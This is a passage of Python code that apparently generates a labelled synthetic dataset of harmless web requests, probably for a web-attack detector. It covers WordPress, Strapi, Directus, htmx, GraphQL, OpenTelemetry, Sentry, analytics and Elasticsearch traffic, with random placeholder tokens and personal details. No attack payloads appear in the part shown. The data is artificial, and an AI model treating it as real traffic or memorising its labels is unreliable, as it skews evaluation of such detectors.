                        [("_csrf_token", c.phoenix_token()), ("user[name]", f"{first} {last}"), ("user[bio]", any_text(c))]])
        c.form("benign", "phoenix-form", "POST", H_PHOENIX, c.pick(["/users/settings", "/polls", "/profile"]), pairs, sub=S,
               origin=True, cookie=ck())
    for i in range(6):
        tok = c.phoenix_token()
        topic = "lv:phx-F" + c.b64(12, url=True, pad=False)
        ev = c.pick([{"type": "click", "event": "vote", "value": {"option-id": str(c.num(1, 400))}},
                     {"type": "form", "event": "validate", "value": formenc([("_target", "poll[question]"),
                                                                             ("poll[question]", c.pick(SEARCHES))]),
                      "uploads": {}},
                     {"type": "keyup", "event": "search", "value": {"key": "e", "value": c.pick(SEARCHES)}},
                     {"type": "form", "event": "save", "value": formenc([("comment[body]", any_text(c))]), "meta": {}}])
        c.req("benign", "liveview-longpoll-event", "POST", H_PHOENIX,
              f"/live/longpoll?_csrf_token={tok}&vsn=2.0.0&token={c.b64(24, url=True, pad=False)}",
              jd([str(c.num(2, 9)), str(c.num(10, 90)), topic, "event", ev]), JSON, sub=S, accept="any",
              origin=True, cookie=ck())
    c.req("benign", "liveview-heartbeat", "POST", H_PHOENIX,
          f"/live/longpoll?vsn=2.0.0&token={c.b64(24, url=True, pad=False)}", jd([None, "34", "phoenix", "heartbeat", {}]),
          JSON, sub=S, accept="any", origin=True)
    c.req("benign", "liveview-join", "POST", H_PHOENIX,
          f"/live/longpoll?vsn=2.0.0&token={c.b64(24, url=True, pad=False)}",
          jd(["4", "4", "lv:phx-F" + c.b64(12, url=True, pad=False), "phx_join",
              {"url": f"https://{H_PHOENIX}/polls/{c.num(1, 900)}", "params": {"_csrf_token": c.phoenix_token(), "_track_static": [
                  f"https://{H_PHOENIX}/assets/app.css", f"https://{H_PHOENIX}/assets/app.js"], "_mounts": 0},
               "session": "SFMyNTY." + c.b64(300, url=True, pad=False), "static": "SFMyNTY." + c.b64(60, url=True, pad=False)}]),
          JSON, sub=S, accept="any", origin=True)
    for i in range(3):
        c.req("benign", "liveview-longpoll-get", "GET", H_PHOENIX,
              f"/live/longpoll?_csrf_token={c.phoenix_token()}&vsn=2.0.0&token={c.b64(24, url=True, pad=False)}",
              sub=S, accept="any", cookie=ck())


def ben_wordpress(c):
    S = "wordpress"
    ck = lambda: c.cookie("wp")
    for i in range(8):
        pid = c.num(100, 9999)
        obj = {"title": c.pick(TITLES), "content": gutenberg(c), "status": c.pick(["draft", "publish", "future"]),
               "excerpt": c.pick(["A quick guide for first-timers.", "Everything we learned this season (and then some).", ""]),
               "categories": [c.num(1, 20)], "tags": [c.num(20, 80), c.num(80, 140)],
               "meta": {"footnotes": ""}, "featured_media": c.num(100, 2000)}
        if i % 3 == 0:
            obj["date"] = "2025-06-21T08:00:00"
        c.json("benign", "rest-post-gutenberg", "POST", H_WP, f"/wp-json/wp/v2/posts/{pid}?_locale=user", obj, sub=S,
               origin=True, referer=f"/wp-admin/post.php?post={pid}&action=edit", cookie=ck(),
               extra=[("X-WP-Nonce", c.hex(10)), ("X-HTTP-Method-Override", "PUT")] if i % 4 == 1 else [("X-WP-Nonce", c.hex(10))])
    for i in range(5):
        pairs = c.pick([[("per_page", "10"), ("page", str(c.num(1, 6))), ("_embed", "1")],
                        [("categories", f"{c.num(1, 20)},{c.num(1, 20)}"), ("orderby", "date"), ("order", "desc"), ("_fields", "id,title,link,excerpt")],
                        [("search", c.pick(SEARCHES)), ("per_page", "5"), ("_locale", "user")],
                        [("slug", c.pick(["tomato-guide", "raised-beds-101", "caf\u00e9-garden"])), ("_embed", "wp:featuredmedia")]])
        c.req("benign", "rest-posts-query", "GET", H_WP, "/wp-json/wp/v2/posts?" + qs(pairs, safe=","), sub=S, accept="json",
              ua=c.pick(BROWSERS + ["node"]))
    for i in range(4):
        first, last, email, _, _ = person(c)
        c.json("benign", "rest-comment", "POST", H_WP, "/wp-json/wp/v2/comments",
               {"post": c.num(100, 9999), "author_name": f"{first} {last}", "author_email": email,
                "content": c.pick(COMMENTS[:20] + REVIEWS_EN[:10]), "parent": c.pick([0, 0, c.num(1, 9000)])}, sub=S, origin=True)
    for i in range(3):
        pid = c.num(100, 9999)
        pairs = [("data[wp-refresh-post-lock][lock]", f"{c.epoch()}:3"), ("data[wp-refresh-post-lock][post_id]", str(pid)),
                 ("data[wp-refresh-post-nonces][post_id]", str(pid)), ("interval", "60"), ("_nonce", c.hex(10)),
                 ("action", "heartbeat"), ("screen_id", "post"), ("has_focus", c.pick(["true", "false"]))]
        c.form("benign", "admin-ajax-heartbeat", "POST", H_WP, "/wp-admin/admin-ajax.php", pairs, sub=S, ctype=FORM_UTF8,
               accept="ujs", origin=True, referer=f"/wp-admin/post.php?post={pid}&action=edit", cookie=ck(),
               extra=[("X-Requested-With", "XMLHttpRequest")])
    for i in range(3):
        obj = c.pick([{"id": c.num(10, 900), "quantity": c.num(1, 4)},
                      {"id": c.num(10, 900), "quantity": 1, "variation": [{"attribute": "pa_size", "value": "m"},
                                                                          {"attribute": "pa_colour", "value": "sage-green"}]},
                      {"code": "GROW10"}])
        c.json("benign", "woo-store-api", "POST", H_WP,
               "/wp-json/wc/store/v1/cart/" + ("apply-coupon" if "code" in obj else "add-item"), obj, sub=S, origin=True,
               extra=[("Nonce", c.hex(10))])
    c.req("benign", "rest-users-me", "GET", H_WP, "/wp-json/wp/v2/users/me?context=edit&_locale=user", sub=S,
          accept="json", cookie=ck(), extra=[("X-WP-Nonce", c.hex(10))])
    c.req("benign", "rest-media-list", "GET", H_WP, "/wp-json/wp/v2/media?media_type=image&per_page=40&orderby=date&_locale=user",
          sub=S, accept="json", cookie=ck(), extra=[("X-WP-Nonce", c.hex(10))])


def ben_strapi(c):
    S = "strapi"
    for i in range(8):
        pairs = c.pick([
            [("filters[title][$containsi]", c.pick(["harbour", "caf\u00e9", "o'brien", "election 2025"])),
             ("populate[cover][fields][0]", "url"), ("populate[author][populate][avatar]", "true"),
             ("sort[0]", "publishedAt:desc"), ("pagination[page]", "1"), ("pagination[pageSize]", "12")],
            [("filters[$or][0][title][$containsi]", "ferry"), ("filters[$or][1][summary][$containsi]", "ferry"),
             ("filters[publishedAt][$notNull]", "true"), ("locale", c.pick(["en", "fr", "de"])), ("populate", "*")],
            [("filters[category][slug][$eq]", c.pick(["local-news", "food-drink", "sport"])), ("filters[date][$gte]", "2025-05-01"),
             ("fields[0]", "title"), ("fields[1]", "slug"), ("fields[2]", "publishedAt"), ("pagination[limit]", "5")],
            [("filters[tags][name][$in][0]", "weather"), ("filters[tags][name][$in][1]", "tides"),
             ("populate[blocks][on][shared.rich-text][populate]", "*"), ("populate[blocks][on][shared.media][populate]", "file")],
        ])
        c.req("benign", "strapi-filters", "GET", H_STRAPI, "/api/articles?" + qs(pairs, keysafe="[]$"), sub=S, accept="json",
              ua=c.pick(["chrome", "node", "safari"]))
    for i in range(4):
        obj = {"data": {"title": c.pick(TITLES), "slug": f"story-{c.num(100, 999)}",
                        "summary": c.pick(REVIEWS_EN[:8] + COMMENTS[:6]),
                        "body": "## " + c.pick(TITLES) + "\n\n" + c.pick(PLAIN_COMMENTS) + "\n\n![harbour at dawn](/uploads/harbour_dawn_3f2a.jpg)\n",
                        "author": c.num(1, 30), "category": {"connect": [c.num(1, 9)]}}}
        c.json("benign", "strapi-write", c.pick(["POST", "PUT"]), H_STRAPI,
               c.pick(["/api/articles", f"/api/articles/{c.alnum(24).lower()}"]), obj, sub=S,
               extra=[("Authorization", "Bearer " + c.hex(64))])
    for i in range(6):
        kind = i % 3
        if kind == 0:
            uri = "/items/exhibits?" + qs([("filter[status][_eq]", "published"), ("filter[year][_between]", "1850,1900"),
                                            ("fields", "*,curator.first_name,curator.last_name"), ("sort", "-date_created"),
                                            ("limit", "25"), ("deep[translations][_filter][languages_code][_eq]", "de-DE")], safe=",*")
        elif kind == 1:
            flt = {"_and": [{"title": {"_icontains": c.pick(["steam", "ship's log", "caf\u00e9 chairs"])}},
                            {"status": {"_in": ["published", "archived"]}}]}
            uri = f"/items/exhibits?filter={uric(jd(flt))}&fields=id,title,year&meta=filter_count&search={uric(c.pick(SEARCHES))}"
        else:
            uri = "/items/visits?aggregate[count]=*&groupBy[]=year(date)&filter[date][_gte]=$NOW(-1 year)".replace(" ", "%20")
        c.req("benign", "directus-query", "GET", H_DIRECTUS, uri, sub=S, accept="json", ua=c.pick(["chrome", "node"]),
              extra=[("Authorization", "Bearer " + c.alnum(32))])
    c.json("benign", "directus-patch", "PATCH", H_DIRECTUS, f"/items/exhibits/{c.num(1, 900)}",
           {"description": "Donated by the O'Sullivan family in 1962. Oak & brass, restored 2019.", "on_display": True},
           sub=S, extra=[("Authorization", "Bearer " + c.alnum(32))])
    c.req("benign", "payload-cms-where", "GET", H_STRAPI,
          "/api/posts?" + qs([("where[title][like]", "ferry timetable"), ("where[_status][equals]", "published"),
                              ("depth", "1"), ("limit", "10"), ("sort", "-publishedAt")]), sub=S, accept="json", ua="node")
    c.json("benign", "strapi-email-template-edit", "PUT", H_STRAPI, "/users-permissions/email-templates",
           {"email-templates": {"reset_password": {"display": "Email.template.reset_password", "options": {
               "from": {"name": "Daily Harbor", "email": "no-reply@dailyharbor.news"}, "response_email": "",
               "object": "Reset password",
               "message": "<p>Hi <%= USER.username %>,</p>\n<p>We heard that you lost your password. Sorry about that!</p>\n"
                          "<p>But don't worry! You can use the following link to reset your password:</p>\n"
                          "<p><%= URL %>?code=<%= TOKEN %></p>\n<p>Thanks.</p>"}}}},
           sub=S, extra=[("Authorization", "Bearer " + c.jwt())])


def ben_htmx(c):
    S = "htmx"
    ck = lambda: c.cookie("htmx")
    for i in range(20):
        kind = i % 6
        base = [("HX-Request", "true"), ("HX-Current-URL", f"https://{H_HTMX}/board")]
        if kind == 0:
            c.req("benign", "active-search", "GET", H_HTMX, "/contacts?" + formenc([("q", c.pick(SEARCHES[:20] + [n[1] for n in NAMES]))]),
                  sub=S, accept="any", cookie=ck(),
                  extra=base + [("HX-Trigger", "search"), ("HX-Trigger-Name", "q"), ("HX-Target", "search-results")])
        elif kind == 1:
            c.form("benign", "todo-create", "POST", H_HTMX, "/todos",
                   [("title", c.pick(["Call the plumber re: kitchen tap", "Book flights (LHR \u2192 LIS)", "Buy 2x AA batteries & milk",
                                      "Review Q2 exec summary", "Drop off parcel at the post office", "Pick up dry cleaning @ 5pm"])),
                    ("list_id", str(c.num(1, 40))), ("source", "quick-add")],
                   sub=S, accept="any", origin=True, cookie=ck(), extra=base + [("HX-Target", "todo-list"), ("HX-Trigger", "new-todo")])
        elif kind == 2:
            c.req("benign", "todo-delete", "DELETE", H_HTMX, f"/todos/{c.num(1, 9000)}", sub=S, accept="any", origin=True,
                  cookie=ck(), extra=base + [("HX-Target", f"todo-{c.num(1, 9000)}"), ("X-CSRFToken", c.alnum(64))])
        elif kind == 3:
            c.req("benign", "boosted-nav", "GET", H_HTMX, c.pick(["/board?view=kanban", "/projects/12", "/settings/notifications"]),
                  sub=S, accept="html", cookie=ck(), extra=base + [("HX-Boosted", "true"), ("HX-Target", "main")])
        elif kind == 4:
            c.json("benign", "json-enc-hx-vals", "POST", H_HTMX, "/api/cards/move",
                   {"card": str(c.num(1, 9000)), "to": c.pick(["todo", "doing", "done"]), "position": str(c.num(0, 12)),
                    "meta": jd({"source": "drag", "board": c.num(1, 30)})}, sub=S, accept="any", origin=True, cookie=ck(),
                   extra=base + [("HX-Trigger", "card-drop")])
        else:
            c.form("benign", "comment-with-prompt", "POST", H_HTMX, f"/projects/{c.num(1, 90)}/comments",
                   [("body", any_text(c)), ("mentions", "maria.k,jon_b")], sub=S, accept="any", origin=True, cookie=ck(),
                   extra=base + [("HX-Prompt", c.pick(["Looks good to me!", "Can we do this Friday?", "Yes - ship it!"])),
                                 ("HX-Target", "comments")])


def ben_graphql(c):
    S = "graphql"
    q_product = ("query ProductPage($handle: String!, $reviewsFirst: Int = 5, $after: String) {\n"
                 "  product(handle: $handle) {\n    id\n    title\n    descriptionHtml\n    ...Price\n"
                 "    reviews(first: $reviewsFirst, after: $after) { edges { node { rating body author { name } } } }\n  }\n}\n\n"
                 "fragment Price on Product {\n  priceRange { minVariantPrice { amount currencyCode } }\n}")
    q_cart = ("mutation CartLinesAdd($cartId: ID!, $lines: [CartLineInput!]!) {\n"
              "  cartLinesAdd(cartId: $cartId, lines: $lines) { cart { id totalQuantity } userErrors { field message } }\n}")
    q_review = ("mutation AddReview($input: ReviewInput!) {\n  addReview(input: $input) { review { id } errors { message } }\n}")
    q_addr = ("mutation UpdateAddress($id: ID!, $address: MailingAddressInput!) {\n"
              "  customerAddressUpdate(id: $id, address: $address) { customerAddress { id } }\n}")
    for i in range(10):
        kind = i % 4
        if kind == 0:
            obj = c.gql_body(q_product, {"handle": c.pick(["trailblazer-2", "merino-crew-3pk", "nimbus-rain-jacket"]), "reviewsFirst": 5}, "ProductPage")
        elif kind == 1:
            obj = c.gql_body(q_cart, {"cartId": f"gid://shopify/Cart/{c.alnum(26)}",
                                      "lines": [{"merchandiseId": f"gid://shopify/ProductVariant/{c.digits(14)}", "quantity": c.num(1, 3)}]},
                             "CartLinesAdd")
        elif kind == 2:
            obj = c.gql_body(q_review, {"input": {"productId": str(c.num(1, 9000)), "rating": c.num(1, 6), "title": "Honest review",
                                                  "body": any_review(c)}}, "AddReview")
        else:
            first, last, email, phone, a = person(c)
            obj = c.gql_body(q_addr, {"id": f"gid://shopify/MailingAddress/{c.digits(12)}",
                                      "address": {"firstName": first, "lastName": last, "address1": a["street"], "city": a["city"],
                                                  "zip": a["zip"], "country": a["country"], "phone": phone}}, "UpdateAddress")
        c.json("benign", "apollo-operation", "POST", H_GQL, "/graphql", obj, sub=S, accept="gql", origin="https://shop.storefront.io",
               ua=c.pick(BROWSERS + ["ios-app"]),
               extra=[("apollographql-client-name", "storefront-web"), ("apollographql-client-version", "3.14.2")])
    for i in range(4):
        ext = {"persistedQuery": {"version": 1, "sha256Hash": c.hex(64)}}
        var = c.pick([{"term": c.pick(SEARCHES), "first": 12}, {"handle": "nimbus-rain-jacket"}, {"collection": "summer-sale", "sortKey": "BEST_SELLING"}])
        c.req("benign", "apollo-persisted-get", "GET", H_GQL,
              f"/graphql?operationName={c.pick(['Search', 'ProductPage', 'Collection'])}&variables={uric(jd(var))}&extensions={uric(jd(ext))}",
              sub=S, accept="gql", ua=c.pick(BROWSERS), extra=[("apollo-require-preflight", "true")])
    for i in range(8):
        kind = i % 4
        if kind == 0:
            obj = c.gql_body(GQL_HASURA, {"where": {"_and": [{"title": {"_ilike": "%" + c.pick(['run', 'yoga', 'caf\u00e9 ride', 'leg day']) + "%"}},
                                                             {"started_at": {"_gte": "2025-05-01T00:00:00Z"}}]}, "limit": 20}, "Workouts")
        elif kind == 1:
            obj = c.gql_body("mutation LogWorkout($object: workouts_insert_input!) {\n  insert_workouts_one(object: $object, on_conflict: {constraint: workouts_pkey, update_columns: [duration_s, notes]}) { id }\n}",
                             {"object": {"title": c.pick(["Morning run", "Yoga w/ Ana", "5x5 squats"]), "duration_s": c.num(600, 7200),
                                         "notes": c.pick(["Felt great -- new PR!", "Knee's a bit sore; took it easy :(", "Rainy, 12\u00b0C, 80% humidity"]),
                                         "started_at": c.ts()}}, "LogWorkout")
        elif kind == 2:
            obj = c.gql_body("query Feed($limit: Int!, $offset: Int!) {\n  posts(order_by: [{created_at: desc}], limit: $limit, offset: $offset, where: {_or: [{visibility: {_eq: \"public\"}}, {author_id: {_in: $following}}]}) { id body likes_aggregate { aggregate { count } } }\n}",
                             {"limit": 20, "offset": c.num(0, 5) * 20, "following": [c.uuid() for _ in range(3)]}, "Feed")
        else:
            obj = c.gql_body("mutation DeleteSet($id: uuid!) { delete_sets_by_pk(id: $id) { id } }", {"id": c.uuid()}, "DeleteSet")
        c.json("benign", "hasura-operation", "POST", H_HASURA, "/v1/graphql", obj, sub=S, accept="json",
               ua=c.pick(["ios-app", "android-app", "chrome"]), extra=[("Authorization", "Bearer " + c.jwt()), ("x-hasura-role", "user")])
    for i in range(3):
        batch = [c.gql_body(GQL_SEARCH, {"term": c.pick(SEARCHES), "first": 8}, "Search"),
                 c.gql_body("query Me { me { id firstName cart { totalQuantity } } }", {}, "Me")]
        c.json("benign", "batched-operations", "POST", H_GQL, "/graphql", batch, sub=S, accept="gql", ua=c.pick(BROWSERS))


# ==========================================================================
# BENIGN: transports
# ==========================================================================

def otlp_traces(c):
    spans = []
    tid = c.hex(32)
    for j in range(c.num(2, 5)):
        attrs = c.pick([
            [("http.request.method", "GET"), ("url.path", "/api/v1/orders"), ("http.response.status_code", 200),
             ("http.route", "/api/v1/orders"), ("user_agent.original", UA["chrome"])],
            [("db.system", "postgresql"), ("db.operation.name", "SELECT"), ("db.collection.name", "orders"),
             ("db.query.text", "SELECT id, total, status FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT $2")],
            [("messaging.system", "kafka"), ("messaging.destination.name", "order-events"), ("messaging.operation.type", "publish")],
            [("rpc.system", "grpc"), ("rpc.service", "inventory.v1.StockService"), ("rpc.method", "Reserve")],
        ])
        kv = [{"key": k, "value": {"intValue": str(v)} if isinstance(v, int) else {"stringValue": v}} for k, v in attrs]
        start = c.nanos()
        spans.append({"traceId": tid, "spanId": c.hex(16), "parentSpanId": c.hex(16) if j else "",
                      "name": c.pick(["GET /api/v1/orders", "SELECT orders", "publish order-events", "inventory.v1.StockService/Reserve"]),
                      "kind": c.pick([1, 2, 3, 4]), "startTimeUnixNano": start, "endTimeUnixNano": str(int(start) + c.num(100000, 90000000)),
                      "attributes": kv, "status": {"code": 1}})
    return {"resourceSpans": [{"resource": {"attributes": [
        {"key": "service.name", "value": {"stringValue": c.pick(["checkout", "orders-api", "storefront"])}},
        {"key": "service.version", "value": {"stringValue": f"1.{c.num(0, 40)}.{c.num(0, 9)}"}},
        {"key": "deployment.environment.name", "value": {"stringValue": "production"}},
        {"key": "k8s.pod.name", "value": {"stringValue": f"orders-api-7d9f{c.lower(5)}-{c.lower(5)}"}}]},
        "scopeSpans": [{"scope": {"name": "@opentelemetry/instrumentation-http", "version": "0.54.2"}, "spans": spans}]}]}


def otlp_logs(c):
    recs = []
    for _ in range(c.num(2, 6)):
        recs.append({"timeUnixNano": c.nanos(), "severityNumber": c.pick([9, 9, 13, 17]),
                     "severityText": c.pick(["INFO", "INFO", "WARN", "ERROR"]),
                     "body": {"stringValue": c.pick(["order 10482 shipped", "payment authorised (3DS challenge passed)",
                                                     "retrying webhook delivery (attempt 2/5)", "cache miss for key product:8812",
                                                     "user updated address: 221B Baker Street, London",
                                                     "slow request: GET /api/v1/search?q=caf%C3%A9 took 1840ms"])},
                     "attributes": [{"key": "http.route", "value": {"stringValue": "/api/v1/orders/{id}"}}],
                     "traceId": c.hex(32), "spanId": c.hex(16)})
    return {"resourceLogs": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "orders-api"}}]},
                              "scopeLogs": [{"scope": {"name": "orders"}, "logRecords": recs}]}]}


def otlp_metrics(c):
    return {"resourceMetrics": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "storefront"}}]},
                                 "scopeMetrics": [{"scope": {"name": "storefront.metrics"}, "metrics": [
                                     {"name": "http.server.request.duration", "unit": "s", "histogram": {
                                         "aggregationTemporality": 2, "dataPoints": [{
                                             "startTimeUnixNano": c.nanos(), "timeUnixNano": c.nanos(), "count": str(c.num(100, 9000)),
                                             "sum": round(c.r.random() * 400, 3), "bucketCounts": [str(c.num(0, 900)) for _ in range(6)],
                                             "explicitBounds": [0.005, 0.025, 0.1, 0.5, 2.5],
                                             "attributes": [{"key": "http.route", "value": {"stringValue": "/products/:handle"}}]}]}},
                                     {"name": "cart.items.added", "sum": {"aggregationTemporality": 2, "isMonotonic": True,
                                                                          "dataPoints": [{"asInt": str(c.num(1, 5000)), "timeUnixNano": c.nanos()}]}}]}]}]}


def sentry_envelope(c):
    eid = c.hex(32)
    event = {"event_id": eid, "timestamp": c.epoch() + 0.5, "platform": c.pick(["python", "ruby"]), "level": "error",
             "environment": "production", "release": f"clinic@{c.num(1, 5)}.{c.num(0, 30)}.0",
             "server_name": f"web-{c.num(1, 9)}",
             "exception": {"values": [{"type": c.pick(["KeyError", "ValueError", "NoMethodError"]),
                                       "value": c.pick(["'appointment_id'", "invalid literal for int() with base 10: 'abc'",
                                                        "undefined method `name' for nil:NilClass"]),
                                       "stacktrace": {"frames": [
                                           {"filename": "clinic/views/appointments.py", "function": "book", "lineno": c.num(10, 400),
                                            "context_line": "    slot = request.POST['slot']", "in_app": True},
                                           {"filename": "django/core/handlers/base.py", "function": "_get_response", "lineno": 197,
                                            "in_app": False}]}}]},
             "request": {"url": f"https://{H_DJANGO}/appointments/book/", "method": "POST",
                         "headers": {"User-Agent": UA["safari"], "Accept-Language": "en-GB"}},
             "breadcrumbs": {"values": [{"timestamp": c.epoch(), "category": "query",
                                         "message": "SELECT \"clinic_slot\".\"id\" FROM \"clinic_slot\" WHERE \"clinic_slot\".\"doctor_id\" = %s LIMIT 21"},
                                        {"timestamp": c.epoch(), "category": "navigation", "data": {"from": "/", "to": "/appointments/"}}]},
             "tags": {"browser": "Safari 18.1", "url": "/appointments/book/"},
             "sdk": {"name": "sentry.python.django", "version": "2.19.0"}}
    lines = [jd({"event_id": eid, "sent_at": c.ts(), "dsn": f"https://{c.hex(32)}@o{c.digits(6)}.ingest.sentry.io/{c.digits(7)}"}),
             jd({"type": "event", "content_type": "application/json"}), jd(event)]
    if c.chance(0.5):
        lines += [jd({"type": "client_report"}), jd({"timestamp": c.epoch(), "discarded_events": [{"reason": "sample_rate", "category": "transaction", "quantity": 3}]})]
    return "\n".join(lines) + "\n"


def ben_compressed(c):
    S = "compressed"
    for i in range(8):
        kind = i % 3
        obj, path = [(otlp_traces(c), "/v1/traces"), (otlp_logs(c), "/v1/logs"), (otlp_metrics(c), "/v1/metrics")][kind]
        c.req_raw("benign", "otlp-http-json-gzip", "POST", "otel.fleetops.io:4318", path, gz(jd(obj)), JSON, sub=S, cenc="gzip",
                  accept="json", ua=c.pick(["otel-js", "otel-py", "otel-go"]))
    for i in range(6):
        pid = c.digits(7)
        c.req_raw("benign", "sentry-envelope-gzip", "POST", f"o{c.digits(6)}.ingest.sentry.io", f"/api/{pid}/envelope/",
                  gz(sentry_envelope(c)), "application/x-sentry-envelope", sub=S, cenc="gzip", accept="any",
                  ua=c.pick(["sentry-py", "sentry-rb"]),
                  extra=[("X-Sentry-Auth", f"Sentry sentry_key={c.hex(32)}, sentry_version=7, sentry_client=sentry.python/2.19.0")])
    for i in range(8):
        kind = i % 4
        if kind == 0:
            obj = {"batch": [{"type": c.pick(["track", "screen", "identify"]), "event": c.pick(["Product Viewed", "Checkout Started", "Search"]),
                              "messageId": c.uuid(), "anonymousId": c.uuid(), "timestamp": c.ts(),
                              "properties": {"product_id": f"sku_{c.alnum(8)}", "name": c.pick(PRODUCTS), "price": c.num(10, 300),
                                             "query": c.pick(SEARCHES)},
                              "context": {"app": {"name": "QuickCart", "version": "7.3.0", "build": "7300"},
                                          "device": {"model": "iPhone15,2"}, "os": {"name": "iOS", "version": "18.1.1"},
                                          "locale": c.pick(["en-US", "pt-BR", "ja-JP"]), "timezone": "Europe/Lisbon"}} for _ in range(c.num(2, 5))],
                   "sentAt": c.ts()}
            host, path, ua, enc = "api.segment.io", "/v1/batch", "ios-app", "gzip"
        elif kind == 1:
            obj = {"api_key": c.hex(32), "events": [{"user_id": f"user-{c.num(1000, 99999)}", "device_id": c.uuid(),
                                                     "event_type": c.pick(["workout_logged", "plan_viewed", "paywall_shown"]),
                                                     "time": c.epoch() * 1000, "event_properties": {"duration_min": c.num(5, 90), "type": "run"},
                                                     "platform": "Android", "os_version": "14", "language": "de-DE"} for _ in range(c.num(2, 6))]}
            host, path, ua, enc = "api2.amplitude.com", "/2/httpapi", "android-app", "gzip"
        elif kind == 2:
            obj = {"api_key": "phc_" + c.alnum(43), "batch": [{"event": "$pageview", "properties": {
                "$current_url": f"https://{H_NEXT}/destinations/portugal?utm_source=newsletter", "$pathname": "/destinations/portugal",
                "$browser": "Chrome", "$device_type": "Desktop", "distinct_id": c.uuid(), "$lib": "web"}, "timestamp": c.ts()}],
                   "sent_at": c.ts()}
            host, path, ua, enc = "eu.i.posthog.com", f"/batch/?compression=gzip-js&ver=1.180.0&_={c.epoch()}", "chrome", "gzip"
        else:
            obj = [{"event": "Checkout Completed", "properties": {"token": c.hex(32), "distinct_id": c.uuid(), "time": c.epoch(),
                                                                 "$insert_id": c.alnum(16), "revenue": round(c.r.random() * 200, 2),
                                                                 "coupon": c.pick(["", "SUMMER30"])}}]
            host, path, ua, enc = "api-eu.mixpanel.com", "/import?strict=1", "node", "deflate"
        body = gz(jd(obj)) if enc == "gzip" else deflate(jd(obj))
        c.req_raw("benign", f"analytics-batch-{enc}", "POST", host, path, body,
                  TEXT_PLAIN if kind == 2 else JSON, sub=S, cenc=enc, accept="any", ua=ua)
    for i in range(4):
        obj = c.pick([{"workout": {"type": "run", "distance_m": c.num(1000, 42000), "duration_s": c.num(300, 14000),
                                   "route": [[round(38.7 + c.r.random() / 10, 6), round(-9.1 - c.r.random() / 10, 6)] for _ in range(8)],
                                   "notes": c.pick(["Windy along the river; legs felt heavy :(", "New 10k PB!!! 47:12", "Easy recovery jog"])}},
                      {"sync": {"since": c.ts(), "changes": [{"id": c.uuid(), "op": "upsert", "entity": "meal",
                                                              "data": {"name": c.pick(["Porridge w/ berries", "Caf\u00e9 latte & croissant", "Chicken salad"]),
                                                                       "kcal": c.num(150, 900)}} for _ in range(3)]}}])
        c.req_raw("benign", "mobile-api-deflate", "POST", H_HASURA.replace("hasura.", "api."), "/v2/sync", deflate(jd(obj)), JSON,
                  sub=S, cenc="deflate", accept="json", ua=c.pick(["ios-app", "android-app", "dart"]),
                  extra=[("Authorization", "Bearer " + c.jwt())])
    for i in range(2):
        lines = []
        for _ in range(c.num(3, 6)):
            lines.append(jd({"create": {"_index": f"logs-nginx.access-{c.pick(['default', 'prod'])}"}}))
            lines.append(jd({"@timestamp": c.ts(), "message": f"{c.ip()} - - [02/Jun/2025:10:{c.num(10, 59)}:{c.num(10, 59)} +0000] \"GET /products?page={c.num(1, 9)} HTTP/1.1\" 200 {c.num(900, 90000)} \"-\" \"{UA['safari']}\"",
                             "data_stream": {"type": "logs", "dataset": "nginx.access", "namespace": "default"},
                             "host": {"name": f"web-{c.num(1, 9)}"}}))
        c.req_raw("benign", "filebeat-bulk-gzip", "POST", "es.logs.quickcart.dev:9200", "/_bulk", gz("\n".join(lines) + "\n"),
                  "application/x-ndjson", sub=S, cenc="gzip", accept="json", ua="beats",
                  extra=[("Authorization", "ApiKey " + c.b64(40))])


def ben_utf16(c):
    S = "utf16"
    for i in range(2):
        first, last, email, phone, a = person(c)
        soap = ('<?xml version="1.0" encoding="utf-16"?>\r\n<soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                'xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
                f'<soap:Body><UpdateEmployee xmlns="http://contoso-hr.com/"><employee><FirstName>{first}</FirstName>'
                f"<LastName>{last.replace(chr(39), '&apos;')}</LastName><Email>{email}</Email><Office>{a['city']}</Office>"
                "</employee></UpdateEmployee></soap:Body></soap:Envelope>")
        c.req_raw("benign", "soap-utf16", "POST", H_ASPNET, "/Services/Directory.asmx", utf16(soap), "text/xml; charset=utf-16",
                  sub=S, accept=None, ua="Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)",
                  extra=[("SOAPAction", '"http://contoso-hr.com/UpdateEmployee"')])
    c.req_raw("benign", "json-utf16le", "POST", H_ASPNET, "/api/directory/search",
              utf16(jds({"query": c.pick(["M\u00fcller", "O'Neill", "\u738b"]), "page": 1, "department": "R&D"})),
              "application/json; charset=utf-16", sub=S, accept="json",
              ua="Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C)")


def ben_ndjson(c):
    S = "ndjson"
    for i in range(8):
        lines = []
        idx = c.pick(["products", "reviews", "customers-2025.06"])
        for _ in range(c.num(2, 5)):
            action = c.pick(["index", "create", "update", "delete"])
            meta = {action: {"_index": idx, "_id": str(c.num(1, 999999))}}
            lines.append(jd(meta))
            if action == "delete":
                continue
            if idx == "products":
                doc = {"name": c.pick(PRODUCTS), "price": round(c.r.random() * 300, 2), "in_stock": c.chance(0.8),
                       "description": c.pick(REVIEWS_EN[:10]), "tags": c.r.sample(["outdoor", "waterproof", "merino", "kids", "sale"], 2)}
            elif idx == "reviews":
                doc = {"product_id": c.num(1, 9000), "rating": c.num(1, 6), "text": any_review(c), "lang": "auto"}
            else:
                first, last, email, phone, a = person(c)
                doc = {"name": f"{first} {last}", "email": email, "city": a["city"], "country": a["country"]}
            lines.append(jd({"doc": doc, "doc_as_upsert": True} if action == "update" else doc))
        c.req("benign", "es-bulk", "POST", "search.quickcart.dev:9200", c.pick(["/_bulk", f"/{idx}/_bulk?refresh=wait_for"]),
              "\n".join(lines) + "\n", "application/x-ndjson", sub=S, accept="json", ua="es-py",
              extra=[("Authorization", "ApiKey " + c.b64(40))])
    for i in range(4):
        lines = []
        for _ in range(c.num(1, 3)):
            lines.append(jd({"index": c.pick(["products", "reviews"])}))
            lines.append(jd({"query": {"bool": {"must": [{"multi_match": {"query": c.pick(SEARCHES), "fields": ["name^3", "description"]}}],
                                                 "filter": [{"range": {"price": {"lte": c.num(50, 500)}}}]}}, "size": 10,
                             "aggs": {"brands": {"terms": {"field": "brand.keyword"}}}}))
